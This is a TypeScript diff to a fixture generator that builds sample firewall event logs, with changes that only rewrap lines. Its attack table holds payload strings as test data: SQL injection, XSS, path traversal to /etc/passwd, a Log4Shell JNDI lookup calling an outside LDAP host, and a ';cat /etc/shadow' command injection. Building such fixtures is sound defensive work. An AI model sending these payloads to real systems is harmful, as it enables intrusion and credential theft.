@@ -8,25 +8,34 @@ const attacks = [
     ["sqli", "http.request.body.form.user", "", "admin'/*", ""],
     ["xss", "http.request.uri.query", "q=", "<script>alert(1)</script>", "&lang=en"],
     ["traversal", "http.request.uri.path", "/static/", "../../../../etc/passwd", ""],
-    ["log4shell", "http.request.headers.user-agent", "Mozilla/5.0 ", "${jndi:ldap://203.0.113.9/a}", ""],
+    ["log4shell", "http.request.headers.user-agent", "Mozilla/5.0 ", "${jndi:ldap://203.0.113.9/a}",
+        ""],
     ["shell", "http.request.body.raw", "file=a.txt", ";cat /etc/shadow", ""],
 ] as const;
 
-const paths = ["/", "/login", "/search", "/api/v1/users", "/cart", "/wp-login.php", "/static/app.js"];
+const paths = ["/", "/login", "/search", "/api/v1/users", "/cart", "/wp-login.php",
+    "/static/app.js"];
 const countries = ["DE", "US", "FR", "BR", "IN", "NL", "JP"];
 const actions = ["block", "block", "log", "managed_challenge"];
 const start = Date.UTC(2026, 0, 15, 8);
 
 /** Returns records as text, one per line, with payloads sealed by `seal`. */
-export function exampleEvents(seal: (payload: Uint8Array) => string, count: number): Uint8Array<ArrayBuffer> {
-    return new TextEncoder().encode(Array.from({ length: count }, (_, i) => `${JSON.stringify(event(i, seal))}\n`).join(""));
+export function exampleEvents(seal: (payload: Uint8Array) => string,
+    count: number): Uint8Array<ArrayBuffer>
+{
+    return new TextEncoder().encode(
+        Array.from({ length: count }, (_, i) => `${JSON.stringify(event(i, seal))}\n`).join(""),
+    );
 }
 
 function event(i: number, seal: (payload: Uint8Array) => string) {
     // The steps share no factor with the lengths, so that the columns are mixed.
-    const pick = <T>(from: readonly T[], step: number) => from[(i * step + (i >> 4)) % from.length] as T;
+    const pick = <T>(from: readonly T[], step: number) =>
+        from[(i * step + (i >> 4)) % from.length] as T;
     const [rule, part, before, content, after] = pick(attacks, 5);
-    const payload = new TextEncoder().encode(JSON.stringify({ [part]: { before, content, after } }));
+    const payload = new TextEncoder().encode(
+        JSON.stringify({ [part]: { before, content, after } }),
+    );
     return {
         // Events come in waves.
         Datetime: new Date(start + (i + 20 * Math.sin(i / 25)) * 37_000).toISOString(),
